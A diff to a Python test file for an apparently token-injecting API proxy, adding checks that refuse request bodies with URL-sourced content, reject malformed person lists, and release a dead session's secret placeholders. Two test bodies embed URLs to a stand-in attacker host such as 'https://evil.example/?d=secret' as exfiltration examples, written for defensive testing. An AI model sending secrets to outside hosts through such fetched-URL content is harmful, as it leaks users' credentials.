@@ -9,6 +9,7 @@ import dataclasses
 import http.client
 import http.server
 import json
+import os
 import socket
 import ssl
 import sys
@@ -302,6 +303,12 @@ def test_a_body_past_its_deadline_is_refused(proxy, monkeypatch):
     (b'not json', {}, 400, "JSON"),
     (b'[1, 2]', {}, 400, "JSON object"),
     (b'{"model": NaN}', {}, 400, "JSON"),
+    # Review 14: content the API fetches from a URL itself reaches a host the request names.
+    (b'{"model": "m", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", '
+     b'"url": "https://evil.example/?d=secret"}}]}]}', {}, 403, "URL source"),
+    (b'{"model": "m", "system": [{"type": "text", "text": "x"}], "messages": [{"role": "user", "content": [{"type": '
+     b'"tool_result", "tool_use_id": "t", "content": [{"type": "document", "source": {"type": "url", "url": '
+     b'"https://evil.example/"}}]}]}]}', {}, 403, "URL source"),
 ])
 def test_the_messages_body_is_checked_against_what_the_operator_allowed(proxy, body, headers, status, why):
     """Finding 5: the injector forwarded any body, with the API's server-side tools and
@@ -368,8 +375,9 @@ def test_a_secret_held_per_person_gives_each_session_its_persons_value_and_nothi
     assert secrets_state.value_keys(srv.cfg.secrets["oauth"]) == ["oauth@alice", "oauth@bob"]
     assert "only a session workflow" in workflow.secret_errors(["oauth"], "container", True, {}, "wf", srv.cfg)[0]
     assert workflow.secret_errors(["oauth"], "container", True, {}, "wf", srv.cfg, session=True) == []
-    with pytest.raises(HostStateError, match="each person once"):
-        desc(s={**PRESETS["anthropic"], "persons": ["Alice"]})
+    for bad in (["Alice"], ["alice\n"], ["alice", "alice"]):  # review 14: `$` took a trailing newline
+        with pytest.raises(HostStateError, match="each person once"):
+            desc(s={**PRESETS["anthropic"], "persons": bad})
 
 
 def test_the_roles_filter_takes_one_value_per_person_and_the_injector_reads_them(tmp_path):
@@ -400,3 +408,29 @@ def test_the_roles_filter_takes_one_value_per_person_and_the_injector_reads_them
     (store / "claude@bob").unlink()
     with pytest.raises(inject.InjectError, match="claude@bob"):
         inject.read_values(cfg)
+
+
+def test_a_dead_runs_placeholders_die_when_kooi_finishes_it(proxy, tmp_path, monkeypatch):
+    """Review 14: a session whose supervisor was killed, then stopped, kept its live
+    placeholder (forwarding a person's token) until the workflow's timeout."""
+    from kooi.run import deadrun
+
+    srv, reg = proxy
+    wfdir = tmp_path / "workflows"
+    wfdir.mkdir(mode=0o755)
+    (wfdir / "claude.yml").write_text("description: d\nsession: {shell: [bash]}\nnetwork: proxy\nsecrets: [oauth]\n")
+    sock = tmp_path / "control.sock"
+    cfg = dataclasses.replace(srv.cfg, injector=dataclasses.replace(srv.cfg.injector, control=str(sock)))
+    control = injectcontrol.ControlServer(str(sock), os.getgid(), cfg, srv.values, reg, wfdir)
+    threading.Thread(target=control.serve_forever, daemon=True).start()
+    try:
+        token = inject.call(cfg, {"op": "register", "run": "s-dead", "workflow": "claude",
+                                  "person": "alice"})["placeholders"]["oauth"]
+        assert reg.lookup(token) is not None
+        monkeypatch.setattr(secrets_state, "load", lambda *a: cfg)
+        record = deadrun._release_secrets("s-dead")
+        assert record is not None and record["injected"]["oauth"]["env"] == "CLAUDE_CODE_OAUTH_TOKEN", record
+        assert reg.lookup(token) is None and deadrun._release_secrets("s-dead") is None
+    finally:
+        control.shutdown()
+        control.server_close()
